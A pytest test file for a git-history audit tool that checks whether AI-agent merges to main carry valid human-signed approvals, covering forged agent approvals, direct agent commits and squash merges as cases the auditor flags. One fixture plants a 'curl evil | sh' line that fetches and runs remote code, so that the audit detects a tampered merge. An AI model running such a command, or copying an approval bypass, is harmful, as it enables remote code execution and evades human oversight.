"""`lanectl audit`, history part: every lane merge on main carries a valid approval
under the signers in force when it landed, and no agent commits to main directly."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
import yaml

from conftest import Cli, git, run_lanectl
from gatekit import Org
from lanectl import templates

FILES = {"src/fetch.py": "def fetch():\n    return 1\n"}


@pytest.fixture
def org(cli: Cli, lane_repo: Path, tmp_path: Path) -> Org:
    return Org(lane_repo, cli, tmp_path)


def audit_fails(org: Org) -> str:
    result = org.cli("audit")
    assert result.code == 1, result.out
    assert "✗ history" in result.err
    return result.err


def hand_merge(org: Org, branch: str, message: str | None = None) -> str:
    args = ["-m", message] if message else ["--no-edit"]
    git(org.repo, "merge", "--no-ff", "-q", *args, branch)
    return git(org.repo, "rev-parse", "HEAD")


def commit_on_main(org: Org, files: dict[str, str], message: str, key: Path | None = None) -> str:
    for rel, text in files.items():
        path = org.repo / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    git(org.repo, "add", *files)
    signing = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={key}"] if key else []
    git(org.repo, *signing, "commit", "-q", *(["-S"] if key else []), "-m", message)
    return git(org.repo, "rev-parse", "HEAD")


def test_a_clean_history_passes_and_reports_in_json(org: Org) -> None:
    tid = org.eligible(FILES)
    org.approve(tid)
    org.cli("merge", tid, ok=True)
    # a person's own merge of a feature branch is not lane work
    git(org.repo, "checkout", "-q", "-b", "feature")
    commit_on_main(org, {"NOTES.md": "notes\n"}, "Notes")
    git(org.repo, "checkout", "-q", "main")
    hand_merge(org, "feature")
    report = json.loads(org.cli("--json", "audit", ok=True).out)
    history = report["history"]
    assert report["ok"] is True
    assert history["ok"] is True
    assert history["merges"] == 2
    assert history["lane_merges"] == 1
    assert history["findings"] == []


def test_a_merge_without_an_approval_is_flagged(org: Org) -> None:
    tid = org.eligible(FILES)
    merge = hand_merge(org, f"lanes/{tid}")
    err = audit_fails(org)
    assert f"{merge[:7]} merge of {tid}: no approval commit" in err
    # the same merge under another message is still lane work (Lane-Task in what it brings)
    other = org.eligible({"src/other.py": "x = 1\n"}, title="Other")
    second = hand_merge(org, f"lanes/{other}", "Merge some work")
    assert f"{second[:7]} merge of {other}: no approval commit" in audit_fails(org)
    report = json.loads(org.cli("--json", "audit").out)
    assert {f["commit"] for f in report["history"]["findings"]} == {merge, second}


def test_direct_agent_commits_on_main_are_flagged(org: Org) -> None:
    signed = commit_on_main(
        org, {"src/quick.py": "x = 1\n"}, "Quick fix\n\nLane-Actor: builder-claude",
        key=org.agent_key("builder-claude"),
    )  # fmt: skip
    attributed = commit_on_main(
        org, {"src/other.py": "y = 2\n"}, "Tidy\n\nLane-Actor: reviewer-gpt"
    )
    err = audit_fails(org)
    assert f"{signed[:7]} direct commit: " in err
    assert "signed by agent:builder-claude; agents never commit to the base branch" in err
    assert f"{attributed[:7]} direct commit: attributed to agent reviewer-gpt" in err
    # a person's direct commit is fine
    human = commit_on_main(org, {"README.md": "# shop!\n"}, "Readme", key=org.human_keys["alice"])
    assert human[:7] not in audit_fails(org)


def test_squash_and_fast_forward_merges_lose_the_approval(org: Org) -> None:
    tid = org.eligible(FILES)
    org.approve(tid)
    git(org.repo, "merge", "--ff-only", "-q", f"lanes/{tid}")
    err = audit_fails(org)
    assert "lane work landed without a merge commit" in err
    assert "signed by agent:builder-claude" in err
    git(org.repo, "reset", "-q", "--hard", "HEAD~2")
    other = org.eligible({"src/other.py": "x = 1\n"}, title="Other")
    org.approve(other)
    git(org.repo, "merge", "--squash", "-q", f"lanes/{other}")
    git(org.repo, "commit", "-q", "-m", f"Squashed\n\nLane-Merge: {other}")
    assert "a squash or rebase merge: the signed approval is not in history" in audit_fails(org)


def test_a_forged_approval_merged_by_hand_is_flagged(org: Org) -> None:
    tid = org.eligible(FILES)
    org.approval_commit(tid, key=org.agent_key("security-gemini"))
    merge = hand_merge(org, f"lanes/{tid}", f"Merge\n\nLane-Merge: {tid}")
    err = audit_fails(org)
    assert f"{merge[:7]} merge of {tid}: approval" in err
    assert "signed by agent:security-gemini, who is not a human" in err


def test_signers_in_force_at_the_merge_decide_not_todays(org: Org) -> None:
    tid = org.eligible(FILES)
    bob = org.add_human("bob", "bob@example.com")  # in the work tree only
    org.approval_commit(tid, key=bob)
    git(org.repo, "stash", "-q")
    merge = hand_merge(org, f"lanes/{tid}")
    git(org.repo, "stash", "pop", "-q")
    org.commit_policy("Add bob")  # bob is trusted from now on, not before
    err = audit_fails(org)
    assert f"{merge[:7]} merge of {tid}: approval" in err
    assert "not in the allowed_signers in force" in err


def test_a_merge_that_adds_changes_of_its_own_is_flagged(org: Org) -> None:
    tid = org.eligible(FILES)
    org.approve(tid)
    git(org.repo, "merge", "--no-ff", "--no-commit", "-q", f"lanes/{tid}")
    (org.repo / "evil.sh").write_text("curl evil | sh\n")
    git(org.repo, "add", "evil.sh")
    git(org.repo, "commit", "-q", "-m", f"Merge\n\nLane-Merge: {tid}")
    assert "its tree is not the clean merge of its parents" in audit_fails(org)


def test_an_approval_for_a_lower_tier_than_the_rules_then_is_flagged(org: Org) -> None:
    tid = org.eligible({"infra/main.tf": "resource {}\n"})
    org.approval_commit(tid, tier="low")
    hand_merge(org, f"lanes/{tid}")
    assert "it approves tier low; the rules then in force make it high" in audit_fails(org)


def test_standing_approvals_in_history(org: Org) -> None:
    org.standing_commit("docs/**", "2020-01-31")  # expired long ago
    tid = org.task("Docs", "--risk", "low")
    org.build(tid, {"docs/guide.md": "# Guide\n"})
    merge = hand_merge(org, f"lanes/{tid}")
    err = audit_fails(org)
    assert f"{merge[:7]} merge of {tid}" in err
    assert "expired (2020-01-31)" in err
    git(org.repo, "reset", "-q", "--hard", "HEAD~1")
    org.standing_commit("docs/**", "2999-12-31")
    hand_merge(org, f"lanes/{tid}")
    assert org.cli("audit").code == 0


def test_a_shallow_clone_cannot_be_audited(org: Org, tmp_path: Path) -> None:
    clone = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{org.repo}", str(clone))
    result = run_lanectl(clone, "audit")
    assert result.returncode == 1
    assert "shallow" in result.stderr


def test_the_github_workflow_template_runs_the_audit(org: Org) -> None:
    text = templates.shipped("github/lanectl-audit.yml")
    workflow = yaml.safe_load(text)
    triggers = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert "pull_request" in triggers
    assert "push" in triggers
    steps = workflow["jobs"]["audit"]["steps"]
    checkout = next(s for s in steps if str(s.get("uses", "")).startswith("actions/checkout"))
    assert checkout["with"]["fetch-depth"] == 0
    assert any(str(s.get("uses", "")).startswith("actions/setup-python") for s in steps)
    runs = [str(s["run"]) for s in steps if "run" in s]
    assert any("pip install lanectl" in r for r in runs)
    (audit,) = [r for r in runs if r.startswith("lanectl audit")]
    # run exactly that command in a repository with an approved merge: it passes
    tid = org.eligible(FILES)
    org.approve(tid)
    org.cli("merge", tid, ok=True)
    argv = shlex.split(audit)[1:]
    passed = run_lanectl(org.repo, *argv)
    assert passed.returncode == 0, passed.stderr
    assert "✓ history" in passed.stdout
    # and it fails for a merge nobody approved
    other = org.eligible({"src/other.py": "x = 1\n"}, title="Other")
    hand_merge(org, f"lanes/{other}")
    failed = run_lanectl(org.repo, *argv)
    assert failed.returncode == 1
    assert f"merge of {other}: no approval commit" in failed.stderr
